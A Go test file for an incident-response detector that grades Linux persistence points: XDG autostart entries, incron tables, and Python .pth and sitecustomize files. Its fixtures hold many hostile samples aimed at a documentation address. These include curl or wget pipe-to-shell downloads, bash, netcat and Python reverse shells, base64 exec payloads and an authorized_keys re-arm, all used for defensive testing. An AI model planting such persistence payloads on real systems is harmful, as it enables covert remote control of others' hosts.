package autostart

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
)

// TestCleanLivedIn: the stock packaged autostart entries, the switched-off
// user copies, the packaged incron table and every well-known .pth shape
// (packaged or pip-installed) are silent; the admin's and the user's own
// incron watches are listed at info, nothing else.
func TestCleanLivedIn(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, ""), false)
	want := map[string]bool{
		ruleIncronEntry + " /etc/incron.d/acme-certs": false,
		ruleIncronEntry + " /var/spool/incron/ops":    false,
	}
	for _, f := range r.Findings {
		k := f.RuleID + " " + f.Evidence.Path
		if _, ok := want[k]; ok && f.Severity == model.Info {
			want[k] = true
			continue
		}
		t.Errorf("false positive: %s", describe(f))
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("missing inventory finding %s", k)
		}
	}
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap: %+v", g)
	}
	for _, f := range r.Find(ruleIncronEntry) {
		switch f.Evidence.Path {
		case "/var/spool/incron/ops":
			if f.Evidence.User != "ops" || f.Evidence.When != "event" || f.Evidence.Line != 1 || f.Evidence.Extra["watch"] != "/home/ops/incoming" {
				t.Errorf("user table evidence: %+v", f.Evidence)
			}
		case "/etc/incron.d/acme-certs":
			if f.Evidence.User != "root" || f.Evidence.Package != model.NoPackage || f.Evidence.Line != 2 || !contains(f.Indicators, "not-from-package") {
				t.Errorf("system table evidence: %+v %v", f.Evidence, f.Indicators)
			}
		}
	}
}

type fires struct {
	name  string
	extra string
	rule  string
	path  string
	sev   model.Severity
	ind   string
	user  string
	when  string
	line  int // 0: not checked
	pkg   string
}

func runFires(t *testing.T, tests []fires) {
	t.Helper()
	cat := catalog.MustLoad()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			for _, f := range r.Findings {
				t.Logf("%s", describe(f))
			}
			var got *model.Finding
			for i, f := range r.Findings {
				if f.RuleID == tc.rule && f.Evidence.Path == tc.path && (tc.ind == "" || contains(f.Indicators, tc.ind)) {
					if got == nil || f.Severity > got.Severity {
						got = &r.Findings[i]
					}
				}
			}
			if got == nil {
				t.Fatalf("no %s finding for %s with indicator %q", tc.rule, tc.path, tc.ind)
			}
			if got.Severity != tc.sev {
				t.Errorf("severity %s, want %s: %s", got.Severity, tc.sev, describe(*got))
			}
			if got.Evidence.User != tc.user || got.Evidence.When != tc.when {
				t.Errorf("evidence user/when = %q/%q, want %q/%q", got.Evidence.User, got.Evidence.When, tc.user, tc.when)
			}
			if tc.line != 0 && got.Evidence.Line != tc.line {
				t.Errorf("evidence line %d, want %d", got.Evidence.Line, tc.line)
			}
			if got.Evidence.Package == "" || (tc.pkg != "" && got.Evidence.Package != tc.pkg) {
				t.Errorf("package %q, want %q", got.Evidence.Package, tc.pkg)
			}
			if got.Evidence.Text == "" || got.Evidence.SHA256 == "" || got.Evidence.MTime == nil {
				t.Errorf("incomplete evidence: %+v", got.Evidence)
			}
			for _, f := range r.Findings {
				for _, id := range f.Indicators {
					for _, lang := range catalog.Languages {
						if cat.Indicator(id, lang) == id {
							t.Errorf("indicator %s has no %s text", id, lang)
						}
					}
				}
			}
		})
	}
}

const entryHead = "[Desktop Entry]\nType=Application\nName=System Update\nName[zh_CN]=系统更新\n"

func TestFiresAutostart(t *testing.T) {
	runFires(t, []fires{
		{"system entry curl pipe bash", "-- etc/xdg/autostart/gnome-update.desktop --\n" + entryHead + "Exec=sh -c 'curl -fsSL http://203.0.113.7/u.sh | bash'\nNoDisplay=true\n",
			ruleAutostartCommand, "/etc/xdg/autostart/gnome-update.desktop", model.Critical, "download-exec", everyone, "login", 5, model.NoPackage},
		{"user entry reverse shell keeps its grade", "-- home/dev/.config/autostart/dbus-sync.desktop --\n" + entryHead + "Exec=/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"\n",
			ruleAutostartCommand, "/home/dev/.config/autostart/dbus-sync.desktop", model.Critical, "reverse-shell.dev-tcp", "dev", "login", 5, model.NoPackage},
		{"user entry hidden program", "-- home/ops/.config/autostart/tracker-extract.desktop --\n" + entryHead + "Exec=/home/ops/.local/share/.tracker/tracker-extract --daemon\n",
			ruleAutostartCommand, "/home/ops/.config/autostart/tracker-extract.desktop", model.Medium, "hidden-location", "ops", "login", 0, ""},
		{"system entry program in tmp", "-- etc/xdg/autostart/xsettings.desktop --\n" + entryHead + "Exec=/tmp/.X11-unix/.s/xsettingsd\n",
			ruleAutostartCommand, "/etc/xdg/autostart/xsettings.desktop", model.High, "writable-location", everyone, "login", 0, ""},
		{"field codes and escapes removed", "-- etc/xdg/autostart/open.desktop --\n" + entryHead + "Exec=sh -c \"wget\\s-qO-\\shttp://203.0.113.7/a|sh\" %U\n",
			ruleAutostartCommand, "/etc/xdg/autostart/open.desktop", model.Critical, "download-exec", everyone, "login", 0, ""},
		{"second Exec line graded", "-- etc/xdg/autostart/two.desktop --\n" + entryHead + "Exec=/usr/bin/true\nComment=x\nExec=nc -e /bin/sh 203.0.113.7 443\n",
			ruleAutostartCommand, "/etc/xdg/autostart/two.desktop", model.Critical, "reverse-shell.nc", everyone, "login", 7, ""},
		{"hidden entry still graded one lower", "-- etc/xdg/autostart/off.desktop --\n" + entryHead + "Hidden=true\nExec=curl -s http://203.0.113.7/x | sh\n",
			ruleAutostartCommand, "/etc/xdg/autostart/off.desktop", model.High, "not-run", everyone, "login", 0, ""},
		{"missing TryExec lowers a user entry", "-- home/dev/.config/autostart/upd.desktop --\n" + entryHead + "TryExec=/opt/upd/bin/upd\nExec=sh -c 'curl -s http://203.0.113.7/x | sh'\n",
			ruleAutostartCommand, "/home/dev/.config/autostart/upd.desktop", model.Medium, "not-run", "dev", "login", 0, ""},
		{"entry runs an unowned script with a payload", "-- etc/xdg/autostart/sync.desktop --\n" + entryHead + "Exec=/usr/local/bin/start-sync.sh\n-- usr/local/bin/start-sync.sh mode=0755 --\n#!/bin/sh\nsleep 30\nwget -q -O- http://203.0.113.7/s | sh\n",
			ruleAutostartCommand, "/etc/xdg/autostart/sync.desktop", model.Critical, "download-exec", everyone, "login", 0, ""},
		{"system entry not from a package", "-- etc/xdg/autostart/remmina-applet.desktop --\n[Desktop Entry]\nType=Application\nName=Remmina Applet\nExec=/usr/bin/remmina -i\n",
			ruleAutostartEntry, "/etc/xdg/autostart/remmina-applet.desktop", model.Medium, "not-from-package", everyone, "login", 4, model.NoPackage},
		{"user's own ordinary entry", "-- home/ops/.config/autostart/syncthing-start.desktop --\n[Desktop Entry]\nType=Application\nName=Start Syncthing\nExec=/usr/bin/syncthing serve --no-browser --logfile=default\nX-GNOME-Autostart-enabled=true\n",
			ruleAutostartEntry, "/home/ops/.config/autostart/syncthing-start.desktop", model.Low, "", "ops", "login", 4, ""},
		{"packaged entry modified", "-- etc/xdg/autostart/pulseaudio.desktop --\n[Desktop Entry]\nVersion=1.0\nName=PulseAudio Sound System\nExec=start-pulseaudio-x11 --log-target=journal\nType=Application\nNoDisplay=true\n",
			ruleAutostartEntry, "/etc/xdg/autostart/pulseaudio.desktop", model.Medium, "modified-package-file", everyone, "login", 4, "pulseaudio"},
		{"entry starts an unpackaged system program", "-- etc/xdg/autostart/gvfs-helper.desktop --\n[Desktop Entry]\nType=Application\nName=GVfs helper\nExec=/usr/lib/x86_64-linux-gnu/gvfsd-helper --replace\n-- usr/lib/x86_64-linux-gnu/gvfsd-helper mode=0755 --\n\x7fELF\x02\x01\x01\n",
			ruleAutostartEntry, "/etc/xdg/autostart/gvfs-helper.desktop", model.High, indProgramNotPackaged, everyone, "login", 0, ""},
		{"user copy overriding a system entry", "-- home/dev/.config/autostart/org.gnome.Software.desktop --\n[Desktop Entry]\nName=GNOME Software\nExec=/usr/bin/gnome-software --gapplication-service ; /var/tmp/gs-helper\nType=Application\n",
			ruleAutostartCommand, "/home/dev/.config/autostart/org.gnome.Software.desktop", model.Medium, "writable-location", "dev", "login", 3, ""},
	})
}

func TestFiresIncron(t *testing.T) {
	runFires(t, []fires{
		{"root table reverse shell", "-- etc/incron.d/logs --\n/var/log/auth.log IN_MODIFY nc -e /bin/bash 203.0.113.7 443\n",
			ruleIncronCommand, "/etc/incron.d/logs", model.Critical, "reverse-shell.nc", "root", "event", 1, model.NoPackage},
		{"authorized_keys re-armed from a hidden copy", "-- etc/incron.d/sshd-keys --\n/root/.ssh/authorized_keys IN_MODIFY,IN_DELETE_SELF,IN_MOVE_SELF cp /var/tmp/.k /root/.ssh/authorized_keys\n",
			ruleIncronCommand, "/etc/incron.d/sshd-keys", model.High, indWatchSensitive, "root", "event", 1, ""},
		{"upload dir runs the uploaded file", "-- etc/incron.d/thumbs --\n/var/www/html/wp-content/uploads IN_CLOSE_WRITE php $@/$#\n",
			ruleIncronCommand, "/etc/incron.d/thumbs", model.Critical, indRunsEventFile, "root", "event", 1, ""},
		{"user table download one step lower", "-- var/spool/incron/dev mode=0600 --\n/home/dev/src IN_MODIFY curl -s http://203.0.113.7/p | sh\n",
			ruleIncronCommand, "/var/spool/incron/dev", model.High, "download-exec", "dev", "event", 1, model.NoPackage},
		{"shadow watch with ordinary command is listed low", "-- etc/incron.d/notify --\n/etc/shadow IN_MODIFY /usr/bin/logger -t incron shadow changed\n",
			ruleIncronEntry, "/etc/incron.d/notify", model.Low, indWatchSensitive, "root", "event", 1, ""},
		{"tmp watch runs a hidden tmp program", "-- etc/incron.d/tmpw --\n/tmp IN_CREATE /tmp/.ICE-unix/.x/run $#\n",
			ruleIncronCommand, "/etc/incron.d/tmpw", model.Critical, "writable-location", "root", "event", 1, ""},
		{"unknown account table not run", "-- var/spool/incron/ghost --\n/srv IN_MODIFY curl http://203.0.113.7/g | sh\n",
			ruleIncronCommand, "/var/spool/incron/ghost", model.Medium, "not-run", "ghost", "event", 1, ""},
		{"packaged table modified", "-- etc/incron.d/sysadmin --\n/var/spool/asterisk/incron IN_MODIFY,IN_ATTRIB,IN_CLOSE_WRITE /usr/bin/sysadmin_manager $#; wget -qO- http://203.0.113.7/i|sh\n",
			ruleIncronCommand, "/etc/incron.d/sysadmin", model.Critical, "modified-package-file", "root", "event", 1, "sysadmin"},
		{"escaped space in the watched path", "-- etc/incron.d/share --\n/srv/Shared\\ Files IN_CREATE /usr/bin/wget -q -O- http://203.0.113.7/x | bash\n",
			ruleIncronCommand, "/etc/incron.d/share", model.Critical, "download-exec", "root", "event", 1, ""},
		{"runs the event file with an interpreter", "-- var/spool/incron/ops mode=0600 --\n/home/ops/incoming IN_CLOSE_WRITE bash $@/$#\n",
			ruleIncronCommand, "/var/spool/incron/ops", model.Medium, indRunsEventFile, "ops", "event", 1, ""},
	})
}

func TestFiresPython(t *testing.T) {
	const site = "usr/local/lib/python3.11/dist-packages/"
	runFires(t, []fires{
		{"exec of base64", "-- " + site + "apt_helper.pth --\nimport base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
			rulePthExec, "/" + site + "apt_helper.pth", model.Critical, indPyExecPayload, everyone, "exec", 1, model.NoPackage},
		{"reverse shell one-liner", "-- " + site + "zz_sys.pth --\nimport socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])\n",
			rulePthExec, "/" + site + "zz_sys.pth", model.Critical, indPyNetworkExec, everyone, "exec", 1, ""},
		{"os.system of a download", "-- " + site + "certifi-fix.pth --\nimport os; os.system(\"curl -s http://203.0.113.7/x | sh >/dev/null 2>&1 &\")\n",
			rulePthExec, "/" + site + "certifi-fix.pth", model.Critical, "download-exec", everyone, "exec", 1, ""},
		{"plain import of an unknown module", "-- " + site + "telemetry.pth --\nimport telemetry_hook; telemetry_hook.install()\n-- " + site + "telemetry_hook.py --\nimport sys\n\ndef install():\n    sys.flags\n",
			rulePthExec, "/" + site + "telemetry.pth", model.Medium, indPyStartupImport, everyone, "exec", 1, ""},
		{"plain import of a reverse-shell module", "-- " + site + "sysupdate.pth --\nimport sysupdate\n-- " + site + "sysupdate.py --\nimport os\nimport socket\nimport threading\n\ndef _run():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 8443))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    os.execv('/bin/sh', ['sh', '-i'])\n\nthreading.Thread(target=_run, daemon=True).start()\n",
			rulePthExec, "/" + site + "sysupdate.pth", model.Critical, indPyNetworkExec, everyone, "exec", 1, ""},
		{"user site downloader one step lower", "-- home/dev/.local/lib/python3.11/site-packages/ipython-ext.pth --\nimport urllib.request;exec(urllib.request.urlopen('http://203.0.113.7/p.py').read())\n",
			rulePthExec, "/home/dev/.local/lib/python3.11/site-packages/ipython-ext.pth", model.High, indPyExecPayload, "dev", "exec", 1, model.NoPackage},
		{"line hidden behind a bare CR", "-- " + site + "paths.pth --\n/srv/app/lib\rimport os;os.system('nc -e /bin/sh 203.0.113.7 4444')\n",
			rulePthExec, "/" + site + "paths.pth", model.Critical, "reverse-shell.nc", everyone, "exec", 2, ""},
		{"distutils-precedence with a payload appended", "-- " + site + "distutils-precedence.pth --\nimport os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
			rulePthExec, "/" + site + "distutils-precedence.pth", model.Critical, indPyExecPayload, everyone, "exec", 1, ""},
		{"nspkg look-alike with a system call", "-- " + site + "google_auth-2.0-nspkg.pth --\nimport sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));__import__('os').system('id >/tmp/.o')\n",
			rulePthExec, "/" + site + "google_auth-2.0-nspkg.pth", model.High, indPyProcess, everyone, "exec", 1, ""},
		{"indented import does not run", "-- " + site + "x.pth --\n  import os;os.system(\"curl http://203.0.113.7/a | sh\")\n",
			rulePthExec, "/" + site + "x.pth", model.High, "not-run", everyone, "exec", 1, ""},
		{"packaged pth changed", "-- usr/lib/python3/dist-packages/PyGObject.pth --\ngi\nimport gi_overrides_hook\n",
			rulePthExec, "/usr/lib/python3/dist-packages/PyGObject.pth", model.Medium, "modified-package-file", everyone, "exec", 2, "python3-gi"},
		{"pth under /opt", "-- opt/certbot/lib/python3.11/site-packages/certbot-dns.pth --\nimport certbot_dns_hook\n",
			rulePthExec, "/opt/certbot/lib/python3.11/site-packages/certbot-dns.pth", model.Medium, indPyStartupImport, everyone, "exec", 1, ""},
		{"exec of an escaped literal", "-- " + site + "zzz.pth --\nimport os;exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x0a\\x70\\x72\\x69\\x6e\\x74')\n",
			rulePthExec, "/" + site + "zzz.pth", model.High, indPyObfuscation, everyone, "exec", 1, ""},
		{"unowned sitecustomize", "-- " + site + "sitecustomize.py --\nimport os\nos.environ.setdefault('TZ', 'Asia/Shanghai')\n",
			ruleCustomize, "/" + site + "sitecustomize.py", model.Medium, "not-from-package", everyone, "exec", 1, model.NoPackage},
		{"sitecustomize reverse shell", "-- " + site + "sitecustomize.py --\n# site hooks\nimport os, pty, socket\ntry:\n    s = socket.create_connection(('203.0.113.7', 53))\n    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn('/bin/bash')\nexcept Exception:\n    pass\n",
			ruleCustomize, "/" + site + "sitecustomize.py", model.Critical, indPyNetworkExec, everyone, "exec", 0, ""},
		{"packaged sitecustomize changed (reached through the stdlib link)", "-- etc/python3.11/sitecustomize.py --\n# Empty sitecustomize.py to avoid a dangling symlink\nimport subprocess; subprocess.Popen(['/usr/bin/python3', '-c', 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.7/s\").read())'])\n",
			ruleCustomize, "/etc/python3.11/sitecustomize.py", model.Critical, "modified-package-file", everyone, "exec", 2, "python3.11-minimal"},
		{"root's own user site is not lowered", "-- root/.local/lib/python3.11/site-packages/ansible-hook.pth --\nimport ansible_hook\n",
			rulePthExec, "/root/.local/lib/python3.11/site-packages/ansible-hook.pth", model.Medium, indPyStartupImport, "root", "exec", 1, ""},
		{"user's usercustomize", "-- home/dev/.local/lib/python3.11/site-packages/usercustomize.py --\nimport warnings\nwarnings.filterwarnings('ignore', category=DeprecationWarning)\n",
			ruleCustomize, "/home/dev/.local/lib/python3.11/site-packages/usercustomize.py", model.Low, "", "dev", "exec", 1, ""},
	})
}

// TestEvidenceExtras pins the facts a responder needs beyond the line.
func TestEvidenceExtras(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, "-- home/dev/.config/autostart/org.gnome.Software.desktop --\n[Desktop Entry]\nName=GNOME Software\nExec=/usr/bin/gnome-software --gapplication-service ; /var/tmp/gs-helper\nType=Application\n"+
		"-- etc/python3.11/sitecustomize.py --\nimport os\n"+
		"-- etc/xdg/autostart/gvfs-helper.desktop --\n[Desktop Entry]\nType=Application\nName=GVfs helper\nExec=/usr/lib/x86_64-linux-gnu/gvfsd-helper --replace\n-- usr/lib/x86_64-linux-gnu/gvfsd-helper mode=0755 --\n\x7fELF\x02\x01\x01\n"), false)
	for _, f := range r.Findings {
		t.Logf("%s %v", describe(f), f.Evidence.Extra)
		switch f.Evidence.Path {
		case "/home/dev/.config/autostart/org.gnome.Software.desktop":
			if f.Evidence.Extra["overrides"] != "/etc/xdg/autostart/org.gnome.Software.desktop" || f.Evidence.Extra["name"] != "GNOME Software" {
				t.Errorf("override not named: %v", f.Evidence.Extra)
			}
		case "/etc/python3.11/sitecustomize.py":
			if f.Evidence.Extra["loaded_as"] != "/usr/lib/python3.11/sitecustomize.py" {
				t.Errorf("stdlib link not named: %v", f.Evidence.Extra)
			}
		case "/etc/xdg/autostart/gvfs-helper.desktop":
			if f.Evidence.Extra["program"] != "/usr/lib/x86_64-linux-gnu/gvfsd-helper" || f.Evidence.Extra["program_package"] != model.NoPackage {
				t.Errorf("program not named: %v", f.Evidence.Extra)
			}
		}
	}
	for _, p := range []string{"/home/dev/.config/autostart/org.gnome.Software.desktop", "/etc/python3.11/sitecustomize.py", "/etc/xdg/autostart/gvfs-helper.desktop"} {
		if !r.Has(ruleAutostartCommand, p) && !r.Has(ruleAutostartEntry, p) && !r.Has(ruleCustomize, p) {
			t.Errorf("no finding for %s", p)
		}
	}
}

func TestSilent(t *testing.T) {
	const site = "usr/local/lib/python3.11/dist-packages/"
	tests := []struct {
		name, extra string
		owners      map[string][]string
	}{
		{"packaged desktop entry from another package", "-- etc/xdg/autostart/nm-applet.desktop --\n[Desktop Entry]\nName=Network\nName[zh_CN]=网络\nComment=Manage your network connections\nIcon=nm-device-wireless\nExec=nm-applet\nTerminal=false\nType=Application\nNoDisplay=true\nNotShowIn=KDE;GNOME;\nX-GNOME-Bugzilla-Bugzilla=GNOME\nX-GNOME-Bugzilla-Product=NetworkManager\nX-GNOME-UsesNotifications=true\n",
			map[string][]string{"network-manager-gnome": {"/etc/xdg/autostart/nm-applet.desktop"}}},
		{"Ubuntu's packaged apport sitecustomize", "-- usr/lib/python3.12/sitecustomize.py -> /etc/python3.12/sitecustomize.py --\n-- etc/python3.12/sitecustomize.py --\n# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n",
			map[string][]string{"python3.12-minimal": {"/usr/lib/python3.12/sitecustomize.py", "/etc/python3.12/sitecustomize.py"}}},
		{"postinst-created empty sitecustomize (not in dpkg)", "-- usr/lib/python3.12/sitecustomize.py -> /etc/python3.12/sitecustomize.py --\n-- etc/python3.12/sitecustomize.py --\n# Empty sitecustomize.py to avoid a dangling symlink\n", nil},
		{"user switched an entry off", "-- home/ops/.config/autostart/org.gnome.Evolution-alarm-notify.desktop --\n[Desktop Entry]\nType=Application\nName=Evolution Alarm Notify\nExec=/usr/libexec/evolution-data-server/evolution-alarm-notify\nX-GNOME-Autostart-enabled=false\n", nil},
		{"entry masked to /dev/null", "-- home/ops/.config/autostart/pulseaudio.desktop -> /dev/null --\n", nil},
		{"non-application entry", "-- home/ops/.config/autostart/docs.desktop --\n[Desktop Entry]\nType=Link\nName=Docs\nURL=https://wiki.internal/\nExec=/usr/bin/true\n", nil},
		{"two-level namespace package", "-- " + site + "backports.ssl_match_hostname-3.7-nspkg.pth --\n" + nspkgBackports, nil},
		{"coverage 7.16 a1_coverage.pth", "-- " + site + "a1_coverage.pth --\nimport sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n    try:\\n        import coverage\\n    except:\\n        pass\\n    else:\\n        coverage.process_startup(slug=\"pth\")\\n')\n", nil},
		{"comments, from-imports and paths with import in them", "-- " + site + "misc.pth --\n# import os; os.system('curl http://203.0.113.7/x | sh')\nfrom os import system\n/srv/import-tools/lib\n\n", nil},
		{"old pytest-cov with pkg_resources", "-- " + site + "pytest-cov.pth --\n" + pytestCovOld, nil},
		{"incron comments only", "-- etc/incron.d/disabled --\n# /etc/shadow IN_MODIFY cp /var/tmp/.s /etc/shadow\n\n", nil},
		{"incron ordinary watch in a packaged place stays info", "-- etc/incron.d/nginx-reload --\n/etc/nginx/sites-enabled IN_CREATE,IN_DELETE,IN_MODIFY /usr/sbin/nginx -s reload\n", nil},
		{"python2 era directories are not read", "-- usr/lib/python2.7/dist-packages/x.pth --\nimport os;os.system('id')\n", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root := fixture(t, tc.extra)
			if tc.owners != nil {
				root = fixtureOwned(t, tc.extra, tc.owners)
			}
			r := enginetest.Run(t, New(), root, false)
			enginetest.Quiet(t, r.Findings, model.Low)
			for _, g := range r.Gaps {
				t.Errorf("unexpected gap: %+v", g)
			}
		})
	}
}

const nspkgBackports = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('backports',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('backports', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('backports', [os.path.dirname(p)])));m = m or sys.modules.setdefault('backports', types.ModuleType('backports'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n" +
	"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('backports', 'ssl_match_hostname'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('backports.ssl_match_hostname', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('backports.ssl_match_hostname', [os.path.dirname(p)])));m = m or sys.modules.setdefault('backports.ssl_match_hostname', types.ModuleType('backports.ssl_match_hostname'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['backports'], 'ssl_match_hostname', m)\n"

// pytestCovOld is pytest-cov 2.x's pytest-cov.pth.
const pytestCovOld = `import os, sys;exec('try:\n import pkg_resources\nexcept ImportError:\n pass\nelse:\n def reordered_iter_entry_points(group, name=None, __original=pkg_resources.iter_entry_points):\n  if group == \'pytest11\' and name is None:\n   delayed_entrypoints = []\n   for ep in __original(group):\n    if ep.name == \'pytest_cov\':\n     yield ep\n     for delayed_ep in delayed_entrypoints:\n      yield delayed_ep\n     delayed_entrypoints = None\n    elif delayed_entrypoints is None:\n     yield ep\n    else:\n     delayed_entrypoints.append(ep)\n  else:\n   for ep in __original(group, name):\n    yield ep\n pkg_resources.iter_entry_points = reordered_iter_entry_points\nif \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write(\n   "pytest-cov: Failed to setup subprocess coverage. "\n   "Environ: {0!r} "\n   "Exception: {1!r}\\n".format(\n    dict((k, v) for k, v in os.environ.items() if k.startswith(\'COV_CORE\')),\n    exc\n   )\n  )\n')
`

// TestNoPackageDB: without a package database nothing is known-good, so
// system entries and tables are inventoried, but nothing ordinary is graded
// above info and no file is called unpackaged.
func TestNoPackageDB(t *testing.T) {
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), testutil.RootFromString(t, string(clean)), false)
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, f := range r.Findings {
		if f.Evidence.Package != "" || contains(f.Indicators, "not-from-package") {
			t.Errorf("package %q claimed without a database: %s", f.Evidence.Package, describe(f))
		}
	}
	if !r.Has(ruleAutostartEntry, "/etc/xdg/autostart/pulseaudio.desktop") {
		t.Errorf("system entries not inventoried without a database: %v", r.Rules())
	}
}

// TestHostile: files that cannot or must not be read become gaps; odd
// names and bytes do not stop the check.
func TestHostile(t *testing.T) {
	extra := "-- etc/xdg/autostart/loop.desktop -> loop.desktop --\n" +
		"-- etc/xdg/autostart/pipe.desktop fifo --\n" +
		"-- etc/xdg/autostart/junk.desktop --\nExec=before any group\n[Desktop Entry\n[Desktop Entry]\nType=Application\nExec=/bin/sh -c 'curl http://203.0.113.7/j|sh'\n\x00\x01garbage\n" +
		"-- etc/incron.d/bin\xff\xfename --\n/srv IN_MODIFY curl http://203.0.113.7/x | sh\n" +
		"-- etc/incron.d/short --\n/srv IN_MODIFY\n" +
		"-- usr/local/lib/python3.11/dist-packages/fifo.pth fifo --\n" +
		"-- usr/local/lib/python3.11/dist-packages/dir.pth/ --\n" +
		"-- var/spool/incron/sub/ --\n"
	root := fixture(t, extra)
	big := "import os\n" + strings.Repeat("/srv/app/lib\n", fileLimit/12+10)
	if err := os.WriteFile(filepath.Join(root, "usr/local/lib/python3.11/dist-packages/huge.pth"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), root, false)
	gaps := map[string]model.GapKind{}
	for _, g := range r.Gaps {
		gaps[g.Path] = g.Kind
	}
	for _, p := range []string{"/etc/xdg/autostart/loop.desktop", "/etc/xdg/autostart/pipe.desktop", "/etc/xdg/autostart/junk.desktop",
		"/etc/incron.d/short", "/usr/local/lib/python3.11/dist-packages/fifo.pth", "/usr/local/lib/python3.11/dist-packages/huge.pth"} {
		if _, ok := gaps[p]; !ok {
			t.Errorf("no gap recorded for %s (gaps: %v)", p, gaps)
		}
	}
	if !r.Has(ruleIncronCommand, "/etc/incron.d/bin\xff\xfename") {
		t.Errorf("non-UTF-8 file name not graded: %v", r.Rules())
	}
	if !r.Has(ruleAutostartCommand, "/etc/xdg/autostart/junk.desktop") {
		t.Errorf("malformed entry not graded: %v", r.Rules())
	}
}

func BenchmarkAutostart(b *testing.B) {
	root := fixture(b, "-- etc/xdg/autostart/gnome-update.desktop --\n"+entryHead+"Exec=sh -c 'curl -fsSL http://203.0.113.7/u.sh | bash'\n"+
		"-- etc/incron.d/logs --\n/var/log/auth.log IN_MODIFY nc -e /bin/bash 203.0.113.7 443\n"+
		"-- usr/local/lib/python3.11/dist-packages/zz_sys.pth --\nimport socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])\n")
	d := New()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		enginetest.Run(b, d, root, false)
	}
}
